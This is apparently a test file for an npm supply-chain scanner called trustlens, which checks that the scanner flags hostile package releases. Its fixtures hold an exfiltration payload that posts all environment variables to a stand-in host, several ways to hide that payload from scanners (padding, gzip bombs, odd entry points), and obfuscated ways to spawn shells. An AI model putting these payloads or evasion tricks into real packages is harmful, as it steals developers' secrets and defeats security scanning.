import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { hoverMarkdown } from '../../../src/core/report/hover-text';
import { type CheckOptions, type CheckReport, runCheck } from '../../../src/engine/check/run-check';
import { ScenarioBuilder, tarballPath } from '../../fixtures/registry/corpus';
import * as H from '../../fixtures/registry/hostile-tarballs';
import { type FixtureRegistry, startFixtureRegistry } from '../../fixtures/registry/server';
import { trustlens } from '../../support/cli';
import { isolatedNpmEnv } from '../../support/npm-env';

const MB = 1024 * 1024;
const NOW = '2025-01-01T00:00:00Z';
const HOSTILE = '1.1.0';
/** The same exfiltration each time: plain, it is flagged high (content-credentials and content-network). */
const PAYLOAD =
  "const https = require('https'); const req = https.request({ hostname: 'exfil.example.com', method: 'POST' }); req.end(JSON.stringify(process.env));\n";
/** The payload and a 1.1 MB comment: larger than any room a 1 MB padding file leaves in the budget. */
const BIG_PAYLOAD = `${PAYLOAD}/* ${'-'.repeat(1.1 * MB)} */\n`;

type Files = Record<string, string | Buffer>;
interface Case {
  /** The hostile release's files (package.json generated unless given). */
  files?: Files;
  manifest?: Record<string, unknown>;
  /** The ordinary release's files (default: a one-line index.js). */
  previous?: Files;
  /** A whole tarball instead (served as the hostile release). */
  tarball?: (name: string) => Buffer;
  /** Codes that must be there, at high or above unless a severity is given. */
  expect: { code: string; severity?: string }[];
}

const CASES: Record<string, Case> = {
  // 1. the payload, then `//` and 5.5 MB of spaces: once skipped as too large ("nothing suspicious")
  'r-padded': { files: { 'index.js': `${PAYLOAD}//${' '.repeat(5.5 * MB)}\n` }, expect: [{ code: 'content-credentials' }] },
  'r-padded-tail': { files: { 'index.js': `//${' '.repeat(5.5 * MB)}\n${PAYLOAD}` }, expect: [{ code: 'content-credentials' }] },
  // 1b. a code file larger than the whole read budget cannot be read: said so, never clean
  'r-huge-entry': { files: { 'index.js': `${' '.repeat(21 * MB)}\n${PAYLOAD}` }, expect: [{ code: 'content-unscanned' }] },
  // 1c. a package larger than the budget release after release: still said, at medium
  'r-big-both': {
    previous: { 'index.js': `${' '.repeat(21 * MB)}\n// 1\n` },
    files: { 'index.js': `${' '.repeat(21 * MB)}\n// 2\n` },
    expect: [{ code: 'content-unscanned', severity: 'medium' }],
  },
  // 2. 21 MB of data files ahead of index.js used up the budget (index.js is larger than what was left)
  'r-data-first': {
    files: Object.fromEntries([...Array.from({ length: 21 }, (_, i) => [`assets/pad${i}.bin`, Buffer.alloc(MB, i + 1)]), ['index.js', BIG_PAYLOAD]]),
    expect: [{ code: 'content-credentials' }],
  },
  // 2c. 21 MB of new code ahead of the entry point: entry points and hook files come before other code
  'r-code-first': {
    files: Object.fromEntries([
      ...Array.from({ length: 21 }, (_, i) => [`dist/chunk${i}.js`, `/* ${String(i % 10).repeat(MB - 8)} */\n`]),
      ['index.js', BIG_PAYLOAD],
    ]),
    expect: [{ code: 'content-credentials' }],
  },
  // 2b. a gzip bomb first: index.js is never seen, and the cut is a finding (not only `truncated` on the card)
  'r-bomb-first': { tarball: (n) => H.gzipBombTarball(n, HOSTILE, 6 * 1024 * MB), expect: [{ code: 'content-unscanned' }] },
  // 3. index.js requires a .dat file: node runs it as CommonJS
  'r-dat': { files: { 'index.js': "require('./lib/data.dat');\n", 'lib/data.dat': PAYLOAD }, expect: [{ code: 'content-credentials' }] },
  // 4. the entry point in a "non-runtime" folder
  'r-test-main': { files: { 'test/index.js': PAYLOAD }, manifest: { main: 'test/index.js' }, expect: [{ code: 'content-credentials' }] },
  'r-bin-in-docs': {
    files: { 'index.js': 'module.exports = 1;\n', 'docs/cli.js': PAYLOAD },
    manifest: { bin: { tool: './docs/cli.js' } },
    expect: [{ code: 'content-credentials' }],
  },
  // 5. a regular expression literal with `//` before the payload, on the same line
  'r-regex': { files: { 'index.js': `const r = /[//]/; ${PAYLOAD}` }, expect: [{ code: 'content-credentials' }] },
  'r-template': { files: { 'index.js': `const u = \`\${\`//\`}\`; ${PAYLOAD}` }, expect: [{ code: 'content-credentials' }] },
  // 6. process access without child_process in plain sight
  'r-binding': {
    files: { 'index.js': "const s = process.binding('spawn_sync');\ns.spawn({ file: '/bin/sh', args: ['/bin/sh', '-c', 'id'] });\n" },
    expect: [{ code: 'content-process', severity: 'medium' }],
  },
  'r-unicode': { files: { 'index.js': "const cp = require('\\u0063hild_process');\ncp.exec('id');\n" }, expect: [{ code: 'content-process' }] },
  'r-internal-binding': {
    files: { 'index.js': "const { spawn } = internalBinding('process_wrap');\n" },
    expect: [{ code: 'content-process', severity: 'medium' }],
  },
  'r-load': {
    files: { 'index.js': "const cp = module.constructor._load('child_process');\ncp.exec('id');\n" },
    expect: [{ code: 'content-process', severity: 'medium' }],
  },
  'r-concat': { files: { 'index.js': "const p = globalThis['pro' + 'cess'];\np.binding('spawn_sync');\n" }, expect: [{ code: 'content-process' }] },
};

function writeProject(
  dir: string,
  registryUrl: string,
  locked: Record<string, string>,
  integrity: (name: string, version: string) => string | undefined,
): void {
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: 'victim', version: '1.0.0', dependencies: locked }, null, 2));
  const packages: Record<string, object> = { '': { name: 'victim', version: '1.0.0', dependencies: locked } };
  for (const [name, version] of Object.entries(locked))
    packages[`node_modules/${name}`] = { version, resolved: `${registryUrl}${tarballPath(name, version).slice(1)}`, integrity: integrity(name, version) };
  fs.writeFileSync(
    path.join(dir, 'package-lock.json'),
    JSON.stringify({ name: 'victim', version: '1.0.0', lockfileVersion: 3, requires: true, packages }, null, 2),
  );
}

const rank = ['info', 'low', 'medium', 'high', 'critical'];

/**
 * The content scan reads what runs (issue 15): each hostile release (1.1.0) against an ordinary one (1.0.0), served
 * as real tarballs by the loopback fixture registry and judged by runCheck. Each case hid its payload from the scan
 * before; now the payload is found, or what could not be read is a `content-unscanned` finding.
 */
describe('content scan reads what runs (hostile releases through trustlens check)', function () {
  this.timeout(240_000);
  let work: string;
  let registry: FixtureRegistry;
  let report: CheckReport;
  let cliProject: string;

  before(async () => {
    work = fs.mkdtempSync(path.join(os.tmpdir(), 'trustlens-reads-what-runs-'));
    const b = new ScenarioBuilder({ registryKey: null });
    for (const [name, c] of Object.entries(CASES)) {
      const p = b.package(name);
      p.version('1.0.0', { publisher: { name: 'alice' }, files: c.previous ?? { 'index.js': 'module.exports = 1;\n' } });
      p.version(HOSTILE, { publisher: { name: 'alice' }, files: c.files ?? { 'index.js': 'module.exports = 2;\n' }, manifest: c.manifest });
    }
    b.package('quiet')
      .version('1.0.0', { publisher: { name: 'alice' }, files: { 'index.js': 'module.exports = 1;\n' } })
      .version('1.0.1', {
        publisher: { name: 'alice' },
        files: {
          'index.js': `const r = /[//]/; module.exports = (s) => r.test(s); // ${'x'.repeat(40)}\n`,
          'big.js': `module.exports = ${JSON.stringify('a b '.repeat(1.5 * MB))};\n`,
        },
      });
    const corpus = await b.build();
    for (const [name, c] of Object.entries(CASES)) if (c.tarball) H.serveTarball(corpus, name, HOSTILE, c.tarball(name));
    registry = await startFixtureRegistry(corpus);
    const integrityOf = (name: string, version: string) => corpus.packuments.get(name)?.versions[version]?.dist.integrity;
    const project = path.join(work, 'project');
    writeProject(project, registry.url, { ...Object.fromEntries(Object.keys(CASES).map((n) => [n, HOSTILE])), quiet: '1.0.1' }, integrityOf);
    cliProject = path.join(work, 'cli-project');
    writeProject(cliProject, registry.url, { 'r-huge-entry': HOSTILE, 'r-bomb-first': HOSTILE, quiet: '1.0.1' }, integrityOf);
    const options: CheckOptions = {
      projectDir: project,
      registry: registry.url,
      env: isolatedNpmEnv(project),
      cacheDir: path.join(work, 'cache'),
      now: new Date(NOW),
      timeoutMs: 10_000,
      advisories: { npm: false, osv: false },
      // A hang guard, not a limit under test (see hostile-tarballs.test.ts).
      contentLimits: { timeoutMs: 3_600_000 },
    };
    report = await runCheck(options);
  });
  after(async () => {
    await registry?.close();
    if (work) fs.rmSync(work, { recursive: true, force: true });
  });

  for (const [name, c] of Object.entries(CASES)) {
    it(`${name}: ${c.expect.map((e) => `${e.code} ${e.severity ?? 'high'}`).join(', ')}`, () => {
      const got = report.findings.filter((f) => f.package === name && f.version === HOSTILE);
      const errors = report.errors.filter((e) => e.package.startsWith(`${name}@`));
      assert.deepEqual(errors, [], `${name}: analysed, not an error`);
      for (const e of c.expect) {
        const f = got.find((x) => x.code === e.code);
        assert.ok(f, `${name} should have ${e.code}; it has: ${got.map((x) => `${x.code} ${x.severity}`).join(', ') || 'nothing'}`);
        if (e.severity) assert.equal(f.severity, e.severity, f.message);
        else assert.ok(rank.indexOf(f.severity) >= rank.indexOf('high'), `${name}: ${e.code} at ${f.severity}: ${f.message}`);
      }
      const card = report.cards.find((k) => k.name === name && k.version === HOSTILE);
      assert.ok(card?.changes, `${name} was compared with the release before it`);
      assert.doesNotMatch(hoverMarkdown(card, new Date(NOW)), /nothing suspicious/, 'the hover never says "nothing suspicious" here');
    });
  }

  it('a partial read is named in the hover, never "nothing suspicious"', () => {
    for (const name of ['r-huge-entry', 'r-bomb-first']) {
      const card = report.cards.find((k) => k.name === name && k.version === HOSTILE)!;
      assert.equal(card.changes?.truncated, true, name);
      const hover = hoverMarkdown(card, new Date(NOW));
      assert.match(hover, /^Changed since .*: code not read \(high\) \(read only in part: size limits\)$/m, hover);
    }
    const f = report.findings.find((x) => x.package === 'r-bomb-first' && x.code === 'content-unscanned')!;
    assert.match(f.message, /stopped before its end/);
    assert.ok(
      f.evidence.some((e) => /entry point index\.js/.test(e.value)),
      JSON.stringify(f.evidence),
    );
    const g = report.findings.find((x) => x.package === 'r-huge-entry' && x.code === 'content-unscanned')!;
    assert.ok(
      g.evidence.some((e) => e.label === 'index.js' && /entry point/.test(e.value)),
      JSON.stringify(g.evidence),
    );
  });

  it('a signal past the first chunk of a large file is placed on its own line', () => {
    const f = report.findings.find((x) => x.package === 'r-padded-tail' && x.code === 'content-credentials')!;
    assert.ok(
      f.evidence.some((e) => e.label === 'index.js:2'),
      JSON.stringify(f.evidence),
    );
  });

  it('an ordinary release with a regex literal and a large code file stays quiet', () => {
    assert.deepEqual(
      report.findings.filter((f) => f.package === 'quiet').map((f) => f.code),
      [],
    );
    const card = report.cards.find((k) => k.name === 'quiet')!;
    assert.equal(card.changes?.truncated, false);
    assert.match(hoverMarkdown(card, new Date(NOW)), /nothing suspicious in the code/);
  });

  it('`trustlens check`: what could not be read is a finding in text, JSON and SARIF', async () => {
    const env = isolatedNpmEnv(cliProject);
    const base = ['check', cliProject, '--registry', registry.url, '--now', NOW, '--advisories', 'off', '--cache-dir', path.join(work, 'cli-cache')];
    const json = await trustlens([...base, '--format', 'json'], env);
    assert.equal(json.code, 1, json.stderr);
    const out = JSON.parse(json.stdout) as { findings: { code: string; package: string; severity: string }[] };
    for (const n of ['r-huge-entry', 'r-bomb-first'])
      assert.ok(
        out.findings.some((f) => f.package === n && f.code === 'content-unscanned' && f.severity === 'high'),
        `${n}: ${json.stdout.slice(0, 2000)}`,
      );
    const sarif = await trustlens([...base, '--format', 'sarif'], env);
    const results = (JSON.parse(sarif.stdout) as { runs: { results: { ruleId: string; message: { text: string } }[] }[] }).runs[0].results;
    assert.equal(results.filter((r) => r.ruleId === 'content-unscanned').length, 2, sarif.stdout.slice(0, 2000));
    const text = await trustlens(base, env);
    assert.match(text.stdout, /HIGH +content-unscanned +r-huge-entry@1\.1\.0/);
    assert.match(text.stdout, /HIGH +content-unscanned +r-bomb-first@1\.1\.0/);
    assert.doesNotMatch(text.stdout, /quiet@/);
  });
});
